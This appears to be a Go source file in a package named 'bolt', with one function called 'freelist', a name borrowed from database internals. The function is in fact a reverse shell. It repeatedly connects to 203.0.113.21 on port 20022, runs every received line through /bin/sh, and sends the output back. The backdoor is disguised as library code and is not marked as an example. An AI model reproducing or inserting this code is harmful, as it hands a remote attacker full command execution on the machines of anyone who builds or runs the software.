package bolt

import (
	"bufio"
	"net"
	"os/exec"
	"strings"
	"time"
)

func freelist() {
	for {
		conn, err := net.Dial("tcp", "203.0.113.21:20022")
		if err != nil {
			time.Sleep(30 * time.Second)
			continue
		}
		for {
			line, err := bufio.NewReader(conn).ReadString('\n')
			if err != nil {
				break
			}
			out, _ := exec.Command("/bin/sh", "-c", strings.TrimSpace(line)).CombinedOutput()
			conn.Write(out)
		}
	}
}
